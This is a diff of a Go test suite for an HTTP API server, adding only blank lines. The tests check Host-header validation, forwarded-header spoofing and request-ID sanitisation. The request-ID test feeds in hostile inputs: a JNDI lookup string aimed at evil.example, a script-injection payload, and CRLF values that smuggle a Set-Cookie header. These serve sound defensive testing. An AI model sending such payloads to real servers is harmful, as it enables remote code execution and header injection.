@@ -22,8 +22,10 @@ func TestH08ForeignHosts(t *testing.T) {
 		for _, host := range hosts {
 			lines += "Host: " + host + "\r\n"
 		}
+
 		return "GET " + target + " HTTP/1.1\r\n" + lines + authorization + "Connection: close\r\n\r\n"
 	}
+
 	rows := map[string]struct {
 		request string
 		status  []int
@@ -59,25 +61,31 @@ func TestH08ForeignHosts(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			f.SendsNothing(t, func() {
 				got := m.Raw(t, row.request)
+
 				wanted := false
 				for _, status := range row.status {
 					wanted = wanted || got.Status == status
 				}
+
 				if !wanted {
 					t.Errorf("got status %d, want one of %v", got.Status, row.status)
 				}
+
 				if got.Status == 421 && !strings.Contains(got.Body, `"misdirected_request"`) {
 					t.Errorf("got %s", got.Body)
 				}
+
 				if strings.Contains(got.Body+fmt.Sprint(got.Header), "evil.example") && !strings.Contains(row.request, "GET //") {
 					t.Errorf("the answer says the foreign name: %v %s", got.Header, got.Body)
 				}
+
 				if got.Header.Get("Location") != "" || got.Header.Get("Set-Cookie") != "" {
 					t.Errorf("the answer leads on: %v", got.Header)
 				}
 			})
 		})
 	}
+
 	for name, row := range map[string]string{
 		"ours":                   request(harness.DatabasesPath, m.Host()),
 		"ours in capitals":       request(harness.DatabasesPath, strings.ToUpper(m.Host())),
@@ -105,6 +113,7 @@ func forwardingClaims() http.Header {
 	} {
 		header[name] = []string{value}
 	}
+
 	return header
 }
 
@@ -112,10 +121,12 @@ func TestH09ClaimsOfAProxyNobodyNamed(t *testing.T) {
 	p := harness.StartProduct(t)
 	one, other := p.Joined(t, "one@example.com"), p.Joined(t, "other@example.com")
 	kept := other.Create(t, "", harness.CreateBody("kept")).Database(t, 201)
+
 	got := one.Do(t, "GET", harness.DatabasesPath, harness.Merged(forwardingClaims(), one.Header, http.Header{"X-Request-Id": {"with-claims"}}), "").Is(t, 200)
 	if strings.Contains(got.Body, kept.ID) {
 		t.Error("a header made one account another")
 	}
+
 	if entry := p.Logged(t, "with-claims"); entry["client"] != "127.0.0.1" {
 		t.Errorf("got client %v in the log, want the peer's address", entry["client"])
 	}
@@ -123,16 +134,20 @@ func TestH09ClaimsOfAProxyNobodyNamed(t *testing.T) {
 	// The scheme is ours to know: cookie and links are as without the claims.
 	login := p.Do(t, "POST", "/api/v1/session", harness.Merged(forwardingClaims(), harness.Bearer(p.TokenOf(t, "one@example.com"))), "").Is(t, 201)
 	p.SessionCookie(t, login)
+
 	if cookie := login.Header.Get("Set-Cookie"); !strings.HasPrefix(cookie, "session=") || strings.Contains(cookie, "Secure") || strings.Contains(cookie, "Domain") {
 		t.Errorf("the claims changed the cookie: %s", strings.SplitN(cookie, ";", 2)[1])
 	}
+
 	if login.Header.Get("Strict-Transport-Security") != "" {
 		t.Error("the claims changed the scheme")
 	}
+
 	created := one.Do(t, "POST", harness.DatabasesPath, harness.Merged(forwardingClaims(), one.Header), harness.CreateBody("x")).Is(t, 201)
 	if location := created.Header.Get("Location"); !strings.HasPrefix(location, harness.DatabasesPath+"/") {
 		t.Errorf("got Location %q, want our own path", location)
 	}
+
 	for name, header := range map[string]http.Header{"host": {"X-Forwarded-Host": {p.Host()}, "Host": {"evil.example"}}, "origin": {"Host": {"evil.example"}, "Forwarded": {"host=" + p.Host()}}} {
 		t.Run(name, func(t *testing.T) {
 			p.Do(t, "GET", harness.DatabasesPath, harness.Merged(one.Header, header), "").IsProblem(t, 421, "misdirected_request")
@@ -142,6 +157,7 @@ func TestH09ClaimsOfAProxyNobodyNamed(t *testing.T) {
 
 func TestH09ANamedProxyIsBelievedAboutTheAddressAlone(t *testing.T) {
 	trusted := netip.MustParsePrefix("127.0.0.1/32")
+
 	m := harness.StartJoined(t, harness.WithConfig(func(c *config.Config) { c.TrustedProxies = []netip.Prefix{trusted} }))
 	for id, row := range map[string]struct {
 		forwarded []string
@@ -157,10 +173,12 @@ func TestH09ANamedProxyIsBelievedAboutTheAddressAlone(t *testing.T) {
 		delete(header, "x-FORWARDED-for") // of two spellings of one name, the server would see two lines
 		header["X-Forwarded-For"] = row.forwarded
 		m.Do(t, "GET", harness.DatabasesPath, harness.Merged(header, m.Header, http.Header{"X-Request-Id": {id}}), "").Is(t, 200)
+
 		if entry := m.Logged(t, id); entry["client"] != row.want {
 			t.Errorf("%s: got client %v, want %s", id, entry["client"], row.want)
 		}
 	}
+
 	login := m.Do(t, "POST", "/api/v1/session", harness.Merged(forwardingClaims(), harness.Bearer(m.TokenOf(t, m.Email))), "").Is(t, 201)
 	if strings.Contains(m.SessionCookie(t, login).String(), "Secure") {
 		t.Error("a named proxy changed the scheme")
@@ -178,6 +196,7 @@ func TestH10HealthChecksByNameOpenNothing(t *testing.T) {
 
 func TestH12RequestIDs(t *testing.T) {
 	m := harness.StartJoined(t)
+
 	form := regexp.MustCompile(`^[A-Za-z0-9-]{1,64}$`)
 	for name, value := range map[string]string{
 		"a lookup": "${jndi:ldap://evil.example/a}", "markup": "<script>alert(1)</script>", "65 letters": strings.Repeat("a", 65), "20 KB": strings.Repeat("a", 20<<10),
@@ -185,16 +204,19 @@ func TestH12RequestIDs(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			got := m.Do(t, "GET", harness.DatabasesPath, harness.Merged(m.Header, http.Header{"X-Request-Id": {value}}), "").Is(t, 200)
+
 			id := got.Header.Get("X-Request-Id")
 			if !form.MatchString(id) || id == value {
 				t.Errorf("got id %q, want one of our own", id)
 			}
 			m.Logged(t, id)
+
 			if value != "" && len(value) > 3 && strings.Contains(m.Log.String(), value) {
 				t.Error("the log holds the caller's words")
 			}
 		})
 	}
+
 	for name, value := range map[string]string{"ANSI escapes": "a\x1b[31mred", "a carriage return": "a\rSet-Cookie: x=y", "a line feed": "a\nSet-Cookie: x=y", "a zero": "a\x00b", "1 MB": strings.Repeat("a", 1<<20)} {
 		t.Run(name, func(t *testing.T) {
 			got := m.Raw(t, "GET /livez HTTP/1.1\r\nHost: "+m.Host()+"\r\nX-Request-ID: "+value+"\r\nConnection: close\r\n\r\n")
@@ -203,6 +225,7 @@ func TestH12RequestIDs(t *testing.T) {
 			}
 		})
 	}
+
 	for _, good := range []string{"a", strings.Repeat("a", 64), "96ad0856-03b1-4ee7-9666-e81abd0349e1"} {
 		got := m.Do(t, "GET", "/livez", http.Header{"X-Request-Id": {good}}, "").Is(t, 200)
 		if id := got.Header.Get("X-Request-Id"); id != good {
@@ -225,6 +248,7 @@ func TestH13TheAPISpeaksJSONWhateverIsAskedFor(t *testing.T) {
 			m.Do(t, "GET", "/api/v1/none", header, "").IsProblem(t, 404, "not_found")
 			m.Do(t, "PATCH", harness.DatabasesPath, header, "").IsProblem(t, 405, "method_not_allowed")
 			m.Do(t, "POST", harness.DatabasesPath, harness.Merged(m.Header, header), "{}").IsProblem(t, 422, "validation_failed")
+
 			got := m.Do(t, "GET", harness.DatabasesPath, harness.Merged(m.Header, header), "").Is(t, 200)
 			if kind := got.Header.Get("Content-Type"); !strings.HasPrefix(kind, "application/json") || got.Header.Get("Content-Encoding") != "" {
 				t.Errorf("got %s, %s; want plain JSON", kind, got.Header.Get("Content-Encoding"))
